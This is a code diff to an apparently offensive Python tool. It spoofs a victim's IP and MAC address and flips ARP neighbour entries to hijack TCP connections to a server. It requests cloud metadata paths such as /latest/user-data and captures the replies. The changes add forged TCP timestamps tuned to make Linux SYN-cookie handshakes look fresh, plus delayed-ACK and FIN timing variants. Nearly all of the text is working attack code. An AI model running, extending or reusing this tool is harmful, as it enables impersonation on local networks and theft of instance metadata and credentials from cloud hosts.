@@ -34,6 +34,10 @@ TARGETS = (
     b"/latest/meta-data/hostname",
     b"/latest/user-data",
 )
+#: What a thief adds to the server's time stamp (milliseconds) to pretend that he echoes
+#: a later one: less than the second after which a SYN-ACK is sent again, and a multiple
+#: of 64, for what lies below is part of a SYN cookie (net/ipv4/syncookies.c).
+_AGEING = 960
 
 
 def octets(mac: str) -> bytes:
@@ -55,16 +59,50 @@ def checksum(data: bytes) -> int:
     return ~total & 0xFFFF
 
 
+def write_stamp(value: int, echo: int) -> bytes:
+    """
+    Write the option with the time stamps (RFC 7323), aligned as Linux has it.
+    """
+    return struct.pack("!BBBBII", 1, 1, 8, 10, value, echo)
+
+
+def read_stamp(options: bytes) -> int:
+    """
+    Read the sender's time stamp where L{write_stamp}'s form holds one; 0: none.
+    """
+    _, found, rest = options.partition(b"\x01\x01\x08\x0a")
+    return int.from_bytes(rest[:4], "big") if found else 0
+
+
 @dataclass
 class Segment:
     """
     A TCP segment that the server sent to the victim's address.
+
+    @ivar stamp: The server's time stamp; 0: there was none.
     """
 
     port: int
     seq: int
     flags: int
     payload: bytes
+    stamp: int
+
+
+@dataclass
+class Seat:
+    """
+    The thief's end of a connection whose SYN was answered.
+
+    @ivar seq: The number of the next byte.
+    @ivar ack: The number of the server's next byte.
+    @ivar options: The TCP options of all that follows.
+    """
+
+    port: int
+    seq: int
+    ack: int
+    options: bytes = b""
 
 
 @dataclass
@@ -108,16 +146,16 @@ class Wire:
         arp = struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, operation)
         self.cable.send(head + arp + mac + self.victim + target_mac + target)
 
-    def send(
-        self, mac: bytes, port: int, seq: int, ack: int, flags: int, data: bytes = b""
-    ) -> None:
+    def send(self, mac: bytes, seat: Seat, flags: int, data: bytes = b"") -> None:
         """
         Send a TCP segment from the victim's address.
 
         @param mac: The source of the frame.
         """
-        to = self.order["port"]
-        tcp = struct.pack("!HHIIBBHHH", port, to, seq, ack, 0x50, flags, 65535, 0, 0)
+        ports = struct.pack("!HH", seat.port, self.order["port"])
+        offset = (20 + len(seat.options)) << 2
+        tcp = struct.pack("!IIBBHHH", seat.seq, seat.ack, offset, flags, 65535, 0, 0)
+        tcp = ports + tcp + seat.options
         pseudo = self.victim + self.server + struct.pack("!HH", 6, len(tcp + data))
         total = struct.pack("!H", checksum(pseudo + tcp + data))
         tcp = tcp[:16] + total + tcp[18:] + data
@@ -150,7 +188,9 @@ class Wire:
         source, port, seq, _, offset, flags = struct.unpack("!HHIIBB", tcp[:14])
         if source != self.order["port"]:
             return None
-        return Segment(port, seq, flags, tcp[(offset >> 4) * 4 :])
+        start = (offset >> 4) * 4
+        stamp = read_stamp(tcp[20:start])
+        return Segment(port, seq, flags, tcp[start:], stamp)
 
 
 @dataclass
@@ -169,6 +209,7 @@ class Plan:
     @ivar patience: For how long to listen then.
     @ivar early: Turn the entry to the attacker again before the request, not after.
     @ivar polite: Whether to reset the connection in the end.
+    @ivar stamped: Whether to use TCP time stamps.
     """
 
     forged: bool
@@ -181,6 +222,7 @@ class Plan:
     patience: float
     early: bool
     polite: bool
+    stamped: bool = False
 
 
 def pause(dice: random.Random) -> float:
@@ -238,20 +280,26 @@ class Attack:
                 self.counts["aborted"] += 1
         return segments
 
-    def handshake(self, plan: Plan, mac: bytes, port: int, seq: int) -> int | None:
+    def handshake(self, plan: Plan, mac: bytes, port: int) -> Seat | None:
         """
         Send SYN and wait for the server's answer.
 
-        @return: The server's sequence number, if it came here.
+        @return: What the thief has then, if the answer came here.
         """
+        seq = self.dice.randrange(1 << 31)
+        self.counts["attempts"] += 1
         self.wire.claim(self.wire.own, plan.loudly)
         self.listen(plan.settle)
-        self.wire.send(mac, port, seq, 0, SYN)
+        options = write_stamp(1, 0) if plan.stamped else b""
+        self.wire.send(mac, Seat(port, seq, 0, options), SYN)
         for _ in range(5):
             for segment in self.listen(0.005):
                 if segment.port == port and segment.flags & (SYN | ACK) == SYN | ACK:
                     self.counts["handshakes"] += 1
-                    return segment.seq
+                    if segment.stamp:
+                        self.counts["stamped"] += 1
+                        options = write_stamp(1, segment.stamp + _AGEING)
+                    return Seat(port, seq + 1, segment.seq + 1, options)
         return None
 
     def attempt(self, plan: Plan, port: int) -> None:
@@ -260,27 +308,25 @@ class Attack:
         """
         wire = self.wire
         mac = wire.victim_mac if plan.forged else wire.own
-        seq = self.dice.randrange(1 << 31)
-        self.counts["attempts"] += 1
-        server = self.handshake(plan, mac, port, seq)
-        if server is None:
+        seat = self.handshake(plan, mac, port)
+        if seat is None:
             return
         if plan.disguise is not None:
             self.listen(plan.disguise)
             wire.claim(wire.victim_mac, plan.loudly)
         self.listen(plan.accept)
-        wire.send(mac, port, seq + 1, server + 1, ACK)
+        wire.send(mac, seat, ACK)
         self.listen(plan.ask)
         if plan.early:
             wire.claim(wire.own, plan.loudly)
         question = self.question()
-        wire.send(mac, port, seq + 1, server + 1, PSH | ACK, question)
+        wire.send(mac, seat, PSH | ACK, question)
         self.listen(plan.unmask)
         if not plan.early:
             wire.claim(wire.own, plan.loudly)
         self.listen(plan.patience)
         if plan.polite:
-            wire.send(mac, port, seq + 1 + len(question), 0, RST)
+            wire.send(mac, Seat(port, seat.seq + len(question), 0), RST)
 
     def question(self) -> bytes:
         """
@@ -311,47 +357,51 @@ class Attack:
         Try with patience: shake hands, look like the victim until nobody remembers
         that it was otherwise, ask, and be there when the answers are sent again.
 
+        The order says in which of three ways, which go together.  C{late}: the last ACK
+        of the handshake comes only when all is calm; where the kernel can't measure
+        the way then, it sends its answer again much later.  C{fin}: the request ends
+        what the client says, so that the server closes at once, and only the kernel
+        holds the answer.  C{stamped}: the time stamps tell that the SYN-ACK which is
+        answered was sent a second later than it was, and the handshake looks young.
+
         @param connections: How many at a time; they share the neighbour entry.
         """
         wire, dice = self.wire, self.dice
+        late, fin = (wire.order.get(name, False) for name in ("late", "fin"))
         ports = count(30000 + dice.randrange(1000))
-        for number in range(rounds):
+        for _ in range(rounds):
             opened = list(self.open(islice(ports, connections)))
             wire.claim(wire.victim_mac, loudly=False)
-            # Accepted at once, or only when all is calm.  In the latter case the
-            # kernel has not measured the way and sends its answer again much later.
-            early = number % 2 == 0
-            if early:
+            if not late:
                 self.send_all(opened, ACK)
             self.listen(dice.uniform(1.8, 3.2))
-            if not early:
+            if late:
                 self.send_all(opened, ACK)
-            self.send_all(opened, PSH | ACK)
+            self.send_all(opened, PSH | ACK | (FIN if fin else 0))
             self.listen(dice.uniform(0.0, 0.15))
             wire.claim(wire.own, loudly=False)
-            self.listen(0.7 if early else 3.5)
+            self.listen(3.5 if late else 0.7)
 
-    def open(self, ports: Iterator[int]) -> Iterator[tuple[int, int, int]]:
+    def open(self, ports: Iterator[int]) -> Iterator[Seat]:
         """
         Get the server's answer to SYN for a number of connections.
 
-        @return: Port and sequence numbers of those that it came for.
+        @return: What the thief has of those that it came for.
         """
-        plan = Plan(True, False, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, False, False)
+        stamped = self.wire.order.get("stamped", False)
+        plan = Plan(True, False, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, False, False, stamped)
         for port in ports:
-            self.counts["attempts"] += 1
-            seq = self.dice.randrange(1 << 31)
-            server = self.handshake(plan, self.wire.victim_mac, port, seq)
-            if server is not None:
-                yield port, seq + 1, server + 1
+            seat = self.handshake(plan, self.wire.victim_mac, port)
+            if seat is not None:
+                yield seat
 
-    def send_all(self, opened: list[tuple[int, int, int]], flags: int) -> None:
+    def send_all(self, opened: list[Seat], flags: int) -> None:
         """
         Send a segment on each connection; with C{PSH} it is a request.
         """
         for seat in opened:
             data = self.question() if flags & PSH else b""
-            self.wire.send(self.wire.victim_mac, *seat, flags, data)
+            self.wire.send(self.wire.victim_mac, seat, flags, data)
 
     def report(self) -> dict[str, Any]:
         """
